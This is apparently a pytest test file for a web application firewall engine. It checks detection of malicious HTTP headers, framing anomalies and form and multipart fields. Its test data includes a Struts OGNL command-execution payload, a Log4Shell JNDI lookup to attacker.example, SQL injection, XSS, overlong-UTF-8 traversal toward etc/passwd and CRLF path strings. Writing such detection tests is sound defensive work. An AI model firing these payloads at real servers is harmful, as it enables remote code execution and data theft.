"""What extraction looks at: headers an attacker controls, request framing, percent-decoded form fields."""

from __future__ import annotations

import pytest

from apiward.core import HttpRequest
from apiward.detect import Engine, Inspection, Limits
from apiward.detect._extract import extract

PL1 = Engine(paranoia=1)
PL2 = Engine(paranoia=2)

S2_045 = (
    "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))))."
    "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#process=#p.start())}"
)
LOG4SHELL = "${jndi:ldap://attacker.example/a}"
BROWSER_HEADERS = (
    ("Host", "api.example.com:8443"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Accept-Encoding", "gzip, deflate, br, zstd"),
    ("Connection", "keep-alive"),
    ("Cache-Control", "max-age=0, no-cache"),
    ("If-None-Match", 'W/"33a64df551425fcc55e4d42a148795d9f25f89d4"'),
    ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT"),
    ("TE", "trailers"),
    ("sec-ch-ua", '"Chromium";v="118", "Not=A?Brand";v="99", "Not(A:Brand";v="24"'),
    ("sec-ch-ua-platform", '"Windows"'),
)


def inspect(engine: Engine = PL1, method: str = "GET", body: bytes = b"", **headers: str) -> Inspection:
    pairs = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    return engine.inspect(HttpRequest(method=method, path="/items", headers=pairs, body=body))


def rules(result: Inspection) -> set[str]:
    return {m.rule_id for m in result.matches}


def test_struts_ognl_in_content_type_is_seen() -> None:
    result = inspect(method="POST", Content_Type=S2_045)
    assert result.is_attack
    assert {m.location for m in result.matches} == {"header:content-type"}


@pytest.mark.parametrize(
    "content_type",
    ['application/x-www-form-urlencoded;boundary="application/json"', "text/plain; charset=utf-8; charset=utf-7"],
)
def test_content_type_confusion_fires(content_type: str) -> None:
    assert "PROTO-014" in rules(inspect(method="POST", body=b"a=1", Content_Type=content_type))


@pytest.mark.parametrize(
    "content_type",
    [
        "application/json; charset=utf-8",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
        "text/xml",
        "application/vnd.api+json",
        "application/*+json",
        "application/x-www-form-urlencoded",
    ],
)
@pytest.mark.parametrize("engine", [PL1, PL2], ids=["PL1", "PL2"])
def test_ordinary_content_types_fire_nothing(engine: Engine, content_type: str) -> None:
    assert not inspect(engine, method="POST", Content_Type=content_type).matches


@pytest.mark.parametrize("header", ["TE", "Accept", "Cache-Control", "Host", "If-Modified-Since", "Connection"])
def test_log4shell_in_a_structural_header_is_seen(header: str) -> None:
    result = PL1.inspect(HttpRequest(method="GET", path="/items", headers=((header, LOG4SHELL),)))
    assert result.is_attack
    assert {m.location for m in result.matches} == {f"header:{header.lower()}"}


@pytest.mark.parametrize("engine", [PL1, PL2], ids=["PL1", "PL2"])
def test_ordinary_structural_headers_are_not_inspected(engine: Engine) -> None:
    request = HttpRequest(method="GET", path="/items", headers=BROWSER_HEADERS)
    assert not engine.inspect(request).matches
    assert not [v for v in extract(request, Limits()).values if v.location.startswith("header:")]


def test_the_cookie_header_is_inspected_as_pairs() -> None:
    request = HttpRequest(method="GET", path="/items", headers=(("Cookie", "a=1; b=<x>"),))
    locations = [v.location for v in extract(request, Limits()).values if v.location != "path"]
    assert locations == ["cookie:a", "cookie:a", "cookie:b", "cookie:b"]


CREDENTIALS = [
    "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
    "Basic dXNlcjpwYXNzd29yZA==",
    'Digest username="Mufasa", realm="testrealm@host.com", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", '
    'uri="/dir/index.html", qop=auth, nc=00000001, cnonce="0a4f113b", response="6629fae49393a05397450978507c4ef1"',
    "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, "
    "SignedHeaders=host;range;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024",
    'OAuth oauth_consumer_key="xvz1evFS4wEEPTGEFPHBog", oauth_signature="tnnArxj06cWHq44gCs1OSKk%2FjY%3D"',
    "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHg==",
]


@pytest.mark.parametrize("credentials", CREDENTIALS)
@pytest.mark.parametrize("header", ["Authorization", "Proxy-Authorization"])
def test_well_formed_credentials_are_not_inspected(header: str, credentials: str) -> None:
    request = HttpRequest(method="GET", path="/items", headers=((header, credentials),))
    assert not [v for v in extract(request, Limits()).values if v.location.startswith("header:")]
    assert not PL2.inspect(request).matches


@pytest.mark.parametrize(
    ("credentials", "family"),
    [
        (f"Bearer {LOG4SHELL}", "java"),
        (f'Digest username="{LOG4SHELL}", realm="api"', "java"),
        ("Basic ' OR 1=1-- ", "sqli"),
        ("Bearer <script>alert(document.domain)</script>", "xss"),
    ],
)
def test_a_payload_in_credentials_is_seen_and_shown_redacted(credentials: str, family: str) -> None:
    result = PL1.inspect(HttpRequest(method="GET", path="/items", headers=(("Authorization", credentials),)))
    assert family in result.families
    assert {m.location for m in result.matches} == {"header:authorization"}
    assert {m.shown for m in result.matches} == {"[REDACTED]"}


@pytest.mark.parametrize(
    ("method", "body", "headers", "rule"),
    [
        ("GET", b"a=1&b=2", {"Content_Length": "7"}, "PROTO-016"),
        ("HEAD", b"", {"Content_Length": "12"}, "PROTO-016"),
        ("GET", b"", {"Transfer_Encoding": "chunked"}, "PROTO-017"),
        ("HEAD", b"0\r\n\r\n", {"Transfer_Encoding": "chunked"}, "PROTO-017"),
        ("POST", b"a", {"Content_Length": "0x1"}, "PROTO-018"),
        ("POST", b"a", {"Content_Length": "+1"}, "PROTO-018"),
    ],
)
def test_framing_anomalies_fire_at_pl1(method: str, body: bytes, headers: dict[str, str], rule: str) -> None:
    result = inspect(PL1, method=method, body=body, **headers)
    assert result.is_attack
    assert rule in rules(result)


@pytest.mark.parametrize(
    ("method", "body", "headers"),
    [
        ("GET", b"", {"Content_Length": "0"}),
        ("GET", b"", {"Content_Length": "00"}),
        ("GET", b"", {}),
        ("POST", b"a=1", {"Content_Length": "3"}),
        ("POST", b"4\r\na=12\r\n0\r\n\r\n", {"Transfer_Encoding": "chunked"}),
        ("PUT", b"{}", {"Content_Length": " 2 "}),
    ],
)
@pytest.mark.parametrize("engine", [PL1, PL2], ids=["PL1", "PL2"])
def test_ordinary_framing_fires_nothing(engine: Engine, method: str, body: bytes, headers: dict[str, str]) -> None:
    assert not inspect(engine, method=method, body=body, **headers).matches


def test_get_body_without_framing_headers_is_left_to_pl2() -> None:
    assert not inspect(PL1, body=b"a=1").matches
    assert rules(inspect(PL2, body=b"a=1")) == {"PROTO-019"}


OVERLONG = b"file=..%c0%af..%c0%afetc%c0%afpasswd"


def test_overlong_utf8_traversal_in_a_form_field_is_seen() -> None:
    result = inspect(method="POST", body=OVERLONG, Content_Type="application/x-www-form-urlencoded")
    assert result.is_attack
    assert "body:file" in {m.location for m in result.matches}
    request = HttpRequest(method="GET", path="/items", query=OVERLONG.decode())
    assert "query:file" in {m.location for m in PL1.inspect(request).matches}


def test_form_fields_decode_as_before() -> None:
    request = HttpRequest(
        method="POST",
        path="/items",
        headers=(("Content-Type", "application/x-www-form-urlencoded"),),
        body=b"name=J%C3%BCrgen+M%C3%BCller&bad=%ff&plain=a+b&empty=&=x&flag",
    )
    values = [(v.location, v.text) for v in extract(request, Limits()).values if v.kind == "value"]
    assert values == [
        ("body:name", "Jürgen Müller"),
        ("body:bad", "\ufffd"),
        ("body:plain", "a b"),
        ("body:", "x"),
    ]
    assert not PL1.inspect(request).matches


def _multipart(disposition: str) -> HttpRequest:
    body = f"--XyZ\r\nContent-Disposition: form-data; {disposition}\r\n\r\nhello\r\n--XyZ--\r\n".encode()
    headers = (("Content-Type", "multipart/form-data; boundary=XyZ"),)
    return HttpRequest(method="POST", path="/upload", headers=headers, body=body)


@pytest.mark.parametrize(
    ("disposition", "location"),
    [
        ('name="fi;le"; filename="test"', "body:fi;le#name"),
        ('name="amp;zzz"', "body:amp;zzz#name"),
        ('name="doc"; filename="x.php;.jpg"', "body:doc#filename"),
        ('name="&amp;fi;zzz"', "body:&amp;fi;zzz#name"),
        ('name="f=le"', "body:f=le#name"),
        ('name="a\\"b"', 'body:a"b#name'),
    ],
)
def test_parameter_delimiters_in_a_part_name_fire(disposition: str, location: str) -> None:
    matches = [m for m in PL1.inspect(_multipart(disposition)).matches if m.rule_id == "PROTO-020"]
    assert [m.location for m in matches] == [location]


@pytest.mark.parametrize(
    "disposition",
    [
        'name="file"; filename="John\'s CV.pdf"',
        'name="file"; filename="report (final) v2.pdf"',
        'name="doc"; filename="Résumé – 2024.docx"',
        'name="items[0][title]"',
        'name="zzz&auml;&euml;&amp;&nbsp;&#228;zzz"',
        'name="doc"; filename="file=.txt"',
    ],
)
def test_ordinary_part_names_do_not_fire(disposition: str) -> None:
    assert not PL1.inspect(_multipart(disposition)).matches


@pytest.mark.parametrize(
    ("path", "query", "body", "location"),
    [
        ("/a", "param=%c0%af", b"", "query"),
        ("/..%c0%af..%c0%afetc/passwd", "", b"", "path"),
        ("/a", "x=%E0%80%AE", b"", "query"),
        ("/a", "", b"x=%c1%9c", "body"),
        ("/a", "x=%f0%80%80%af", b"", "query"),
    ],
)
def test_overlong_utf8_fires(path: str, query: str, body: bytes, location: str) -> None:
    headers = (("Content-Type", "application/x-www-form-urlencoded"),) if body else ()
    result = PL1.inspect(HttpRequest(method="POST", path=path, query=query, headers=headers, body=body))
    assert [m.location for m in result.matches if m.rule_id == "PROTO-021"] == [location]


@pytest.mark.parametrize(
    "query", ["name=Ren%E9", "q=caf%C3%A9", "e=%f0%9f%98%80", "h=%e0%a4%b9", "c=%c3%a0", "p=100%25"]
)
def test_well_formed_or_latin1_percent_encoding_is_not_overlong(query: str) -> None:
    assert not [
        m for m in PL1.inspect(HttpRequest(method="GET", path="/a", query=query)).matches if m.rule_id == "PROTO-021"
    ]


@pytest.mark.parametrize(
    "path", ["/foo%0Abar", "/index.php/PHP_VALUE%0Asession.auto_start=1", "/a%0d%0ab", "/a%250Ab", "/x%0A"]
)
def test_a_line_break_in_the_path_fires(path: str) -> None:
    assert [
        m.location for m in PL1.inspect(HttpRequest(method="GET", path=path)).matches if m.rule_id == "CRLF-003"
    ] == ["path"]


@pytest.mark.parametrize("path", ["/foo/bar", "/api/v1/items/42", "/a%20b", "/files/r%C3%A9sum%C3%A9.pdf", "/0a/0d"])
def test_a_path_without_line_break_does_not_fire(path: str) -> None:
    assert not PL1.inspect(HttpRequest(method="GET", path=path, query="a=%0A")).matches


def test_rfc_2231_part_parameters_are_read() -> None:
    # filename*= and name*= (charset, language, percent-encoded value) reach the rules like the plain forms.
    attack = _multipart("name=\"f\"; filename*=UTF-8''1%27%20or%20%271%27%3D%271")
    matches = PL1.inspect(attack).matches
    assert any(m.location == "body:f#filename" and m.family == "sqli" for m in matches)
    named = _multipart("name*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert "xss" in PL1.inspect(named).families
    for disposition in ("name=\"f\"; filename*=UTF-8''report%20Q3%20%E2%80%93%20final.pdf", "name*=UTF-8''caf%C3%A9"):
        assert not PL1.inspect(_multipart(disposition)).matches, disposition


def test_utf8_part_parameters_are_decoded() -> None:
    # The parser keeps a non-ASCII Content-Disposition as bytes; its parameters are read as UTF-8, not as U+FFFD.
    ext = extract(_multipart('name="f"; filename="Résumé – 2024.docx"'), Limits())
    assert ("body:f#filename", "Résumé – 2024.docx") in [(v.location, v.text) for v in ext.values]
    assert not PL1.inspect(_multipart('name="f"; filename="東京の写真.jpg"')).matches
    fullwidth = _multipart('name="f"; filename="＜script＞alert(1)＜/script＞.png"')  # NFKC folds it to <script>
    assert "xss" in PL1.inspect(fullwidth).families
